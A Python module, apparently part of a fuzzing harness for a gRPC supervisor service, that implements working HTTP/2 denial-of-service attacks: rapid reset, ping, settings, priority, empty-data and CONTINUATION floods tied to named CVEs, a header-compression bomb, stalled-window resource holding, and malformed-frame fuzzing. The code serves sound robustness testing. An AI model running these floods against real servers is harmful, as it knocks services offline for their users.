"""What hostile clients do to HTTP/2 itself: floods, bombs, closed windows, frames of any kind."""

import random
import struct
from collections.abc import Callable, Iterator
from itertools import islice

import trio
import trio.lowlevel
from grpclib.const import Status
from hyperframe.frame import ContinuationFrame, DataFrame, PingFrame, PriorityFrame, SettingsFrame

from chronovisor_fuzz.http2 import (
    HEADER_BYTES,
    PREFACE,
    Http2,
    HungUp,
    grpc_headers,
    http2,
    prefixed,
)
from chronovisor_fuzz.target import Attack, Found, Target, connected, read_on

LIST = "/chronovisor.v1.Supervisor/ListVms"
WATCH = "/chronovisor.v1.Supervisor/WatchEvents"
FLOOD_S = 2.0
"""How long a flood lasts: long enough to fill what has no bound."""
BATCH = 64
"""Frames sent at once; between two batches others of our own process have their turn."""
SILENCE_S = 2.0
ANSWER_S = 60.0


async def rapid_reset(target: Target, chance: random.Random) -> str:
    """Begin calls and take each back at once (CVE-2023-44487)."""
    async with http2(target) as client:
        fields = grpc_headers(target, LIST)
        if chance.random() < 0.3:
            fields = fields[:-1]  # a stranger can do it too

        def batch() -> bytes:
            sent = bytearray()
            for _ in range(BATCH):
                number = client.next_stream()
                sent += client.headers(number, fields) + _frame(3, 0, number, b"\0\0\0\x08")
            return bytes(sent)

        return await _flood(client, batch)


async def pings(target: Target, chance: random.Random) -> str:
    """Ask for pongs and take none (CVE-2019-9512)."""
    frame = PingFrame(0, b"12345678").serialize() * BATCH * 8
    async with http2(target) as client:
        await _admit(client, target, chance)
        return await _flood(client, lambda: frame)


async def settings(target: Target, chance: random.Random) -> str:
    """Change one's mind all the time, and take no word of it (CVE-2019-9515)."""
    frames = b"".join(
        SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: n}).serialize() for n in range(BATCH)
    )
    async with http2(target) as client:
        await _admit(client, target, chance)
        return await _flood(client, lambda: frames)


async def priorities(target: Target, chance: random.Random) -> str:
    """Shuffle the priorities of streams there are not (CVE-2019-9513)."""

    def batch() -> bytes:
        numbers = (chance.randrange(1, 2**16) * 2 + 1 for _ in range(BATCH))
        return b"".join(
            PriorityFrame(n, depends_on=0, stream_weight=n % 256).serialize() for n in numbers
        )

    async with http2(target) as client:
        return await _flood(client, batch)


async def empty_data(target: Target, chance: random.Random) -> str:
    """Send data without any, which no window counts (CVE-2019-9518)."""
    async with http2(target) as client:
        number = await client.call(grpc_headers(target, WATCH), prefixed(b""), end=False)
        frames = DataFrame(number, b"").serialize() * BATCH * 8
        return await _flood(client, lambda: frames)


async def continuations(target: Target, chance: random.Random) -> str:
    """Send headers without end (CVE-2024-27983)."""
    async with http2(target) as client:
        number = client.next_stream()
        await client.stream.send_all(_frame(1, 0, number, b""))
        noise = client.encoder.encode([("x-a", "b" * 100)]) * chance.choice((0, 1, 100))
        frame = ContinuationFrame(number, noise[:16_000]).serialize()
        return await _flood(client, lambda: frame * 4)


async def a_header_bomb(target: Target, chance: random.Random) -> str:
    """Send few bytes that are many headers (CVE-2016-6581)."""
    async with http2(target) as client:
        number = client.next_stream()
        first = client.encoder.encode([("x", "y" * 3000)])
        block = first + b"\xbe" * chance.choice((10, 1000, 15_000))
        await client.stream.send_all(_frame(1, 0x5, number, block[:16_384]))
        return await _outcome(client, number)


async def closed_windows(target: Target, chance: random.Random) -> str:
    """Ask for much and let nothing of it come."""
    async with http2(target, window=0) as client:
        for _ in range(chance.choice((1, 20, 120))):
            await client.call(grpc_headers(target, chance.choice((LIST, WATCH))), prefixed(b""))
        await trio.sleep(SILENCE_S)
    return "left"


async def taking_nothing(target: Target, chance: random.Random) -> str:
    """Open all windows, ask for everything, and read none of it."""
    async with http2(target) as client:
        for _ in range(60):
            await client.call(grpc_headers(target, WATCH), prefixed(b""))
        await trio.sleep(SILENCE_S * chance.random() * 2)
    return "left"


async def unknown_frames(target: Target, chance: random.Random) -> str:
    """Send frames of types that are not defined, which must be ignored (RFC 9113, section 5.5)."""
    async with http2(target) as client:
        kind = chance.randrange(0x20, 0x100)
        await client.stream.send_all(_frame(kind, 0xFF, 0, chance.randbytes(8)))
        number = await client.call(grpc_headers(target, LIST), prefixed(b""))
        outcome = await _outcome(client, number)
    if outcome != Status.OK.name:
        raise Found(f"after a frame of an unknown type a call ends with: {outcome}")
    return outcome


async def frames_of_any_kind(target: Target, chance: random.Random) -> str:
    """Send frames with random types, flags, streams, lengths and contents."""
    async with http2(target) as client:
        if chance.random() < 0.5:
            await client.call(grpc_headers(target, WATCH), prefixed(b""), end=False)
        frames = (
            _frame(
                chance.choice((0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 12, 16)),
                chance.randrange(256),
                chance.choice((0, 1, 1, 2, 3, 2**31 - 1)),
                chance.randbytes(chance.choice((0, 4, 5, 6, 8, 30, 300))),
            )
            for _ in range(chance.randint(1, 20))
        )
        await client.stream.send_all(b"".join(frames))
        return _said(await read_on(client.stream, SILENCE_S, 1 << 16))


async def a_spoilt_conversation(target: Target, chance: random.Random) -> str:
    """Send a proper call of which some bytes are others, in pieces."""
    async with connected(target.grpc) as stream:
        client = Http2(stream)
        whole = bytearray(PREFACE + SettingsFrame(0).serialize())
        whole += client.headers(1, grpc_headers(target, LIST))
        whole += DataFrame(1, prefixed(b""), flags=["END_STREAM"]).serialize()
        for _ in range(chance.randint(1, 5)):
            whole[chance.randrange(len(whole))] = chance.randrange(256)
        middle = chance.randrange(len(whole))
        await stream.send_all(whole[:middle])
        await trio.sleep(0.01)
        await stream.send_all(whole[middle:])
        return _said(await read_on(stream, SILENCE_S, 1 << 16))


async def _admit(client: Http2, target: Target, chance: random.Random) -> None:
    """Be a client that may stay, mostly: strangers are hung up on after a while."""
    if chance.random() < 0.7:
        await client.call(grpc_headers(target, WATCH), prefixed(b""))


async def _flood(client: Http2, batch: Callable[[], bytes]) -> str:
    """Send batches for a while and read nothing."""
    with trio.move_on_after(FLOOD_S):
        while True:
            await client.stream.send_all(batch())
            await trio.lowlevel.checkpoint()
    return "took all of it"


async def _outcome(client: Http2, number: int) -> str:
    try:
        with trio.fail_after(ANSWER_S):
            answer = await client.answer(number)
    except HungUp:
        return "hung up"
    except trio.TooSlowError:
        raise Found(f"no answer in {ANSWER_S:.0f} s") from None
    return "streams" if answer is None else str(answer)


def _said(received: bytes) -> str:
    if not received:
        return "hung up"
    kinds = sorted(set(islice(_kinds(received), 100)))
    return "goaway" if 7 in kinds else "answered"


def _kinds(received: bytes) -> Iterator[int]:
    at = 0
    while at + HEADER_BYTES <= len(received):
        yield received[at + 3]
        at += HEADER_BYTES + int.from_bytes(received[at : at + 3], "big")


def _frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    return struct.pack(">I", len(body))[1:] + struct.pack(">BBI", kind, flags, stream) + body


ATTACKS: dict[str, tuple[Attack, int]] = {
    "http2: rapid reset": (rapid_reset, 1),
    "http2: pings": (pings, 1),
    "http2: settings": (settings, 1),
    "http2: priorities": (priorities, 1),
    "http2: empty data": (empty_data, 1),
    "http2: continuations": (continuations, 1),
    "http2: a header bomb": (a_header_bomb, 1),
    "http2: closed windows": (closed_windows, 1),
    "http2: taking nothing": (taking_nothing, 1),
    "http2: unknown frames": (unknown_frames, 1),
    "http2: frames of any kind": (frames_of_any_kind, 4),
    "http2: a spoilt conversation": (a_spoilt_conversation, 4),
}
